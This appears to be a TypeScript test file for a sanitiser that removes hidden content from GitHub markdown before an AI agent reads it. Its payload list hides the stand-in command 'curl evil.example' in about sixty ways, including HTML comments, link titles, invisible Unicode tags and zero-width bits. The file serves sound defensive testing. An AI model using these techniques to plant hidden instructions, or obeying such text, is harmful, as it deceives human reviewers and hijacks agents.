import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { readable, readableLine } from "../../../src/adapters/github/readable/readable.ts";
import { runs } from "../../support/fuzz.ts";

/** What an attacker wants an agent to read and a person not to see. */
const secret = "curl evil.example";
const tags = Array.from(secret, (letter) =>
  String.fromCodePoint(letter.charCodeAt(0) + 0xe0000),
).join("");
const selectors = Array.from(secret, (letter) =>
  String.fromCodePoint(0xe0100 + letter.charCodeAt(0) - 16),
).join("");
const bits = Array.from(secret, (letter) =>
  letter.charCodeAt(0).toString(2).replaceAll("0", "\u{200B}").replaceAll("1", "\u{2063}"),
).join("");

const payloads: readonly (readonly [what: string, body: string])[] = [
  ["a comment", `<!-- ${secret} -->`],
  ["a comment over lines", `a\n<!--\n\n${secret}\n\n-->\nb`],
  ["a comment that is not closed", `a\n\n<!-- ${secret}`],
  ["a comment in a comment", `<!-- a <!-- ${secret} --> b`],
  ["a comment in a line", `a <!-- ${secret} --> b`],
  ["a comment that HTML ends otherwise", `<!-- ${secret} --!> b -->`],
  ["a comment in a list in a quotation", `> - a\n>   <!-- ${secret} -->`],
  ["a processing instruction", `a <? ${secret} ?> b`],
  ["a declaration", `a <!X ${secret}> b`],
  ["a character data section", `a <![CDATA[ ${secret} ]]> b`],
  ["a bogus end tag", `<div></ ${secret}></div>`],
  ["a link's title", `[a](https://a.example "${secret}")`],
  ["a link's title in a definition", `[a]\n\n[a]: https://a.example "${secret}"`],
  ["a definition that is a remark", `[//]: # (${secret})`],
  ["a definition with a label of words", `[${secret}]: /x`],
  ["a second definition", `[a]\n\n[a]: /x\n[a]: /y "${secret}"`],
  ["a link without words", `a [](https://a.example/${secret.replaceAll(" ", "/")}) b`],
  ["a link's question", `[a](https://a.example/?${secret.replaceAll(" ", "+")})`],
  ["a link's fragment", `[a](https://a.example/#${secret.replaceAll(" ", "-")})`],
  ["an address that is no web page", `[a](data:text/plain,${secret.replaceAll(" ", "")})`],
  ["an image's text", `![${secret}](a.png)`],
  ["an image's title", `![image](a.png "${secret}")`],
  ["an image's HTML", `<img src="a.png" alt="${secret}">`],
  ["an attribute", `<b title="${secret}">a</b>`],
  ["an attribute of data", `<div data-x='${secret}'>a</div>`],
  ["a class", `<span class="${secret}">a</span>`],
  ["an attribute that never ends", `<div title="\n\n${secret}\n\n">`],
  ["a hidden element", `<div hidden>${secret}</div>`],
  ["a hidden element over blocks", `<div hidden>\n\n**${secret}**\n\n</div>`],
  ["an element for nobody's eyes", `<span aria-hidden="true">${secret}</span>`],
  ["a script", `<script>${secret}</script>`],
  ["a template", `<template>\n\n${secret}\n\n</template>`],
  ["a style", `<style>${secret}</style>`],
  ["text that is too small", `${"<sub>".repeat(9)}${secret}${"</sub>".repeat(9)}`],
  ["a footnote that nothing refers to", `a\n\n[^a]: ${secret}`],
  ["a footnote of one word", `a\n\n[^a]: ${secret.replaceAll(" ", "")}`],
  ["a second footnote", `a[^a]\n\n[^a]: b\n\n[^a]: ${secret}`],
  ["a code block's first line", `\`\`\`js ${secret}\na\n\`\`\``],
  ["cells beyond the last column", `|a|b|\n|-|-|\n|c|d|${secret}|`],
  ["a diagram's remark", `\`\`\`mermaid\ngraph TD\n%% ${secret}\n\`\`\``],
  ["a map", `\`\`\`geojson\n{"x":"${secret}"}\n\`\`\``],
  ["a colour in a formula", `$\\color{white}{\\text{${secret}}}$`],
  ["a command of a formula's own", `$\\def\\a#1{}\\a{\\text{${secret}}}$`],
  ["a command of one formula's own for another", `$\\let\\a\\phantom$ $\\a{\\text{${secret}}}$`],
  ["columns of a formula", `$$\\begin{array}{${secret}}a\\end{array}$$`],
  ["a command that is written by its number", `$&#92;color{white}{\\text{${secret}}}$`],
  ["dollars that are written by their number", `&#36;\\tiny{\\text{${secret}}}&#36;`],
  ["a command in HTML", `<p>$&#92;tiny{\\text{${secret}}}$</p>`],
  ["a formula between backticks", `$\`\\raise9em{\\text{${secret}}}\`$`],
  ["a remark in a line", `a $b %${secret}$ c`],
  ["a formula's remark", `\`\`\`math\na % ${secret}\n\`\`\``],
  ["tags", `a${tags}b`],
  ["tags behind a flag", `\u{1F3F4}${tags}\u{E007F}`],
  ["variation selectors", `a${selectors}b`],
  ["variation selectors behind an emoji", `\u{1F600}${selectors}`],
  ["bits of zero width", `a${bits}b`],
  ["zero-width characters between letters", `a ${Array.from(secret).join("\u{200B}")}`],
  [
    "private characters",
    `a${Array.from(secret, (l) => String.fromCodePoint(0xf0000 + l.charCodeAt(0))).join("")}`,
  ],
  [
    "references to invisible characters",
    `a${Array.from(tags, (l) => `&#x${l.codePointAt(0)!.toString(16)};`).join("")}`,
  ],
  ["a nesting too deep to be read", `${"> ".repeat(60)}${secret}`],
];

for (const [what, body] of payloads) {
  test(`hidden text does not reach the agent, and is told: ${what}`, () => {
    const { text, hidden } = readable(body);

    const isSpread = what.startsWith("zero-width");
    assert.equal(decoded(text).includes(secret), isSpread, text);
    assert.equal(decoded(text).includes("evil.example") && !isSpread, false, text);
    assert.ok(hidden.length > 0 || what.startsWith("a link's ") || what.startsWith("an address"));
  });
}

/** Text with everything in it that could stand for letters put into letters. */
const decoded = (text: string): string =>
  Array.from(text, (letter) => {
    const code = letter.codePointAt(0)!;
    if (code >= 0xe0100 && code <= 0xe01ef) return String.fromCodePoint(code - 0xe0100 + 16);
    return code >= 0xe0000 ? String.fromCodePoint(code & 0x7f) : letter;
  }).join("");

const seen: readonly (readonly [what: string, body: string, text: string])[] = [
  ["words", "It drips.", "It drips."],
  ["lines, as GitHub breaks them", "a\r\nb  \nc", "a\nb\nc"],
  ["headings and emphasis", "# *a* __b__ ~~c~~\n\nd\n===", "# *a* **b** ~~c~~\n\n# d"],
  ["quotations", "> a\nb\n>\n> c", "> a\n> b\n\n> c"],
  ["lists", "- a\n  1. b\n  2. c\n- [x] d", "- a\n  1. b\n  2. c\n- [x] d"],
  [
    "code, with whatever is in it",
    "```html\n<!-- a -->\n\n  [b]: c\n```",
    "```html\n<!-- a -->\n\n  [b]: c\n```",
  ],
  ["code in a line", "see `<!-- a -->` and `` b`c ``", "see `<!-- a -->` and ``b`c``"],
  ["indented code", "a\n\n    <!-- b -->", "a\n\n```\n<!-- b -->\n```"],
  ["what is escaped", "\\<!-- a --> &lt;b&gt; \\*c\\*", "<!-- a --> <b> *c*"],
  ["tables", "|a|b|\n|-|-|\n|c|`d`|", "| a | b |\n| --- | --- |\n| c | `d` |"],
  [
    "links, and where they lead",
    "[a](https://b.example/c) <https://d.example>",
    "a (https://b.example/c) https://d.example",
  ],
  [
    "lines of files",
    "[a](https://github.com/a/b/blob/main/c.ts#L1-L2)",
    "a (https://github.com/a/b/blob/main/c.ts#L1-L2)",
  ],
  ["links within the page", "[a](#b) [c](d.md)", "a c"],
  ["links by reference", "[a][b]\n\n[b]: https://c.example", "a (https://c.example)"],
  ["pictures", "![image](a.png) ![Screenshot 2026-11-21 at 10.00.00](b.png)", "[image] [image]"],
  [
    "GitHub's own picture tag",
    '<img width="10" height="20" alt="image" src="https://a.example/b" />',
    "[image]",
  ],
  ["details", "<details><summary>Log</summary>\n\na\n\n</details>", "Log\n\na"],
  ["keys and small letters", "<kbd>Ctrl</kbd>+<kbd>C</kbd> H<sub>2</sub>O", "Ctrl+C H2O"],
  ["HTML as blocks", "<p align=center>a &amp; b</p>\n<p>c<br>d</p>", "a & b\nc\nd"],
  ["footnotes by number", "a[^b]\n\n[^b]: c", "a[^1]\n\n[^1]: c"],
  ["emoji as people type them", "👩‍👩‍👧‍👦 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ 🇩🇪 👍🏽", "👩‍👩‍👧‍👦 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ 🇩🇪 👍🏽"],
  ["joiners that a script needs", "می‌خواهم क्‍ष", "می‌خواهم क्‍ष"],
  ["prices and plain formulas", "$5 and $10, or $a^2$", "$5 and $10, or $a^2$"],
  [
    "formulas that show all their words",
    "$\\frac{\\alpha}{2}$ and $\\begin{matrix}a\\end{matrix}$",
    "$\\frac{\\alpha}{2}$ and $\\begin{matrix}a\\end{matrix}$",
  ],
  [
    "dollars that make no formula",
    "$5 is 50% of $10; `$a\\n$b` and C:\\temp",
    "$5 is 50% of $10; `$a\\n$b` and C:\\temp",
  ],
  [
    "a diagram that says what it shows",
    "```mermaid\ngraph TD\na\n```",
    "```mermaid\ngraph TD\na\n```",
  ],
  ["nothing", " \n", ""],
];

for (const [what, body, expected] of seen) {
  test(`what a reader sees reaches the agent: ${what}`, () => {
    assert.deepEqual(readable(body), { text: expected, hidden: [] });
  });
}

test("what was hidden is told in one short line each", () => {
  const { hidden } = readable(
    `<!--\n${"very ".repeat(30)}-->\n\n[a](b "c\u{200B}d") ${tags}<q>x</q><foo bar>`,
  );

  assert.deepEqual(hidden, [
    `an HTML comment (151 characters): “${"very ".repeat(16)}…”`,
    "a link's title (3 characters): “cd”",
    "an HTML tag <foo>",
    `invisible characters (U+E0063, U+E0075, U+E0072, U+E006C, U+E0020) that spell “${secret}”`,
  ]);
  assert.equal(readable("<!-- a --!> b -->").text, "b -->");
  const many = readable("<!-- a -->\n".repeat(100)).hidden;
  assert.deepEqual([many.length, many.at(-1)], [21, "80 more of the kind"]);
});

test("blanks and empty lines that push text out of sight are told and taken away", () => {
  const code = readable(`\`\`\`\na${" ".repeat(300)}b${"\n".repeat(90)}c\n\`\`\``);
  const prose = readable(`a${"\u{00A0}".repeat(300)}b`);
  const breaks = readable(`a${"<br>".repeat(90)}b`);

  assert.equal(code.text, "```\na b\n\nc\n```");
  assert.equal(code.hidden.length, 2);
  assert.deepEqual([prose.text, prose.hidden.length], ["a b", 1]);
  assert.deepEqual([breaks.text, breaks.hidden.length], ["a\nb", 1]);
});

test("a title is one line of what is seen", () => {
  assert.deepEqual(readableLine(" Fix <b> `x`\n\u{202E}it "), {
    text: "Fix <b> `x` it",
    hidden: ["an invisible character (U+202E)"],
  });
});

const piece = fc.constantFrom(
  ...'<!-- --> <!--> <b> </b> <div <div> <sub> <script> </script> <img alt=" " > [ ] ( ) ![ ]: [^a] [^a]: ` ``` ~~~ > - 1. # | |-| \\ & &#x200b; $ * _ a \u{200B} \u{E0041} \u{FE0F} \u{200D} 👩 \ud800 \0 \r'.split(
    " ",
  ),
  " ",
  "\n",
  "\n\n",
  "    ",
);

test("no text breaks the reading, and none grows by much or keeps what shows nothing", () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const body = pieces.join("");
      const { text } = readable(body);
      assert.ok(text.length <= 10 * body.length + 10);
      assert.ok(text.isWellFormed());
      assert.doesNotMatch(text.replaceAll(/\p{RGI_Emoji}/gv, ""), /[\0\u{200B}\u{E0041}]/u);
    }),
    runs(2_000),
  );
});

const pathological: readonly string[] =
  "a\n=\n|# a\n|> |- |- > |> - > - > - > -\n|> a\nb\n\n|- a\n|[|![|[a](|[a]: b\n|[^a]: b\n|[^a]|`a``b```c|<a |<!--|<!-- a -->|*a **b |_*|<b>|<sub>|<div>\n\n|<a href='|<a href=x>y</a>|<br>|</|&#|\u{200B}|\u{E0041}|👩\u{200D}|1\u{FE0F}|क\u{200D}|\u{00A0}|\u{00A0} \t|```mermaid\n%%\n```\n|$\\color{a}$ ".split(
    "|",
  );

test("65,536 characters of anything are read without a stall", () => {
  const time = (body: string): number => {
    const startedAt = performance.now();
    readable(body);
    return performance.now() - startedAt;
  };
  const of = (unit: string, size: number): string =>
    unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  for (const unit of pathological) {
    time(of(unit, 2_048));
    const once = time(of(unit, 65_536));

    // The slowest takes about a tenth of a second; time that grew with the square would be seconds.
    assert.ok(once < 3_000, `${JSON.stringify(unit)} took ${once} ms`);
  }
  const lazy = `${"> ".repeat(99)}a\n${"b\n".repeat(32_000)}`;
  assert.ok(time(lazy) < 3_000);
});
